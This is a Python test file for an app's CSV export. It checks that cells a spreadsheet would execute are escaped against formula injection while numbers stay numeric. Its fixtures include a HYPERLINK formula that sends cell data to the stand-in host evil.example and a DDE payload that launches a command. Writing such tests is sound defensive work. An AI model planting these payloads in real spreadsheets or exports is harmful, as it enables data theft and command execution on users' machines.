"""CSV formula injection (case rel-csv-injection): every CSV the app writes escapes
text cells that a spreadsheet would run as a formula (OWASP "CSV Injection"), keeps
numbers numeric, and reads its own escaping back."""
from __future__ import annotations

import csv
import io

import pandas as pd
from click.testing import CliRunner

from geo.tables import escape_formula_cells, read_table, write_csv
from tests.conftest import shared_case
from web.cli import main as cli

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_escape_rules_on_siblings(tmp_path):
    frame = pd.DataFrame({
        "text": ["=1+2", "+cmd|' /C calc'!A0", "-foo", "@SUM(A1)", "\t=1", "\r=1", "-3.5", "+86", "plain", None],
        "number": [-3.5, 1.0, -2.0, 0.0, 1e-3, -1e6, 2.0, 3.0, 4.0, 5.0],
    })
    path = tmp_path / "t.csv"
    write_csv(frame, path)
    rows = _rows(path.open(encoding="utf-8-sig", newline="").read())
    assert [r["text"] for r in rows] == ["'=1+2", "'+cmd|' /C calc'!A0", "'-foo", "'@SUM(A1)", "'\t=1", "'\r=1",
                                         "-3.5", "+86", "plain", ""]
    assert rows[0]["number"] == "-3.5" and rows[5]["number"] == "-1000000.0"  # numbers stay numbers
    # the header too, and the input frame is not changed
    assert list(escape_formula_cells(pd.DataFrame({"=x": ["a"]})).columns) == ["'=x"]
    assert frame["text"].iloc[0] == "=1+2"
    # the quote is read back off, so an exported file imports back unchanged
    back = read_table(path)
    assert back["text"].tolist()[:4] == ["=1+2", "+cmd|' /C calc'!A0", "-foo", "@SUM(A1)"]


def test_case_csv_through_cli_and_web(workspace, client, tmp_path):
    src = shared_case("rel-csv-injection", "villages_formula.csv")
    runner = CliRunner()
    result = runner.invoke(cli, ["import", "-w", str(workspace.path), "--layer", "villages", str(src)])
    assert result.exit_code == 0, result.output
    names = set(workspace.read_layer("villages")["name"])
    assert HYPERLINK in names and "=1+2" in names  # stored as given: only exports escape

    out = tmp_path / "villages.csv"
    labelled = tmp_path / "villages_zh.csv"
    for target, extra in ((out, ["--codes"]), (labelled, [])):
        result = runner.invoke(cli, ["export", "-w", str(workspace.path), "--layer", "villages", "--format", "csv",
                                     *extra, str(target)], env={"RURALPLAN_LANG": "zh"})
        assert result.exit_code == 0, result.output
    # the labelled export (Chinese headers, the default) escapes the same cells
    zh_rows = _rows(labelled.read_text(encoding="utf-8-sig"))
    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for r in zh_rows for v in r.values() if v)
    assert any(v == "'" + HYPERLINK for r in zh_rows for v in r.values())
    for text in (out.read_text(encoding="utf-8-sig"),
                 client.get("/data/download/villages.csv?codes=1").data.decode("utf-8-sig")):
        rows = {r["code"]: r for r in _rows(text)}
        assert rows["149901101990"]["name"] == "'" + HYPERLINK
        assert rows["149901101991"]["name"] == "'=1+2"
        assert rows["149901101990"]["population"] == "100"  # numbers untouched
        assert float(rows["149901101990"]["lon"]) == 111.30
        assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for r in rows.values() for v in r.values() if v)


def test_od_csv_escapes_ids(tmp_path):
    from web.cli import network_cmds  # noqa: F401 - the command writes through geo.tables.write_csv

    frame = pd.DataFrame({"origin_id": ["=1+2"], "destination_id": ["-5"], "minutes": [-1.25]})
    path = tmp_path / "od.csv"
    write_csv(frame, path)
    row = _rows(path.read_text(encoding="utf-8-sig"))[0]
    # a negative number stays a number, not escaped (and -0.0 would be written 0.0: geo.numbers)
    assert row == {"origin_id": "'=1+2", "destination_id": "-5", "minutes": "-1.25"}
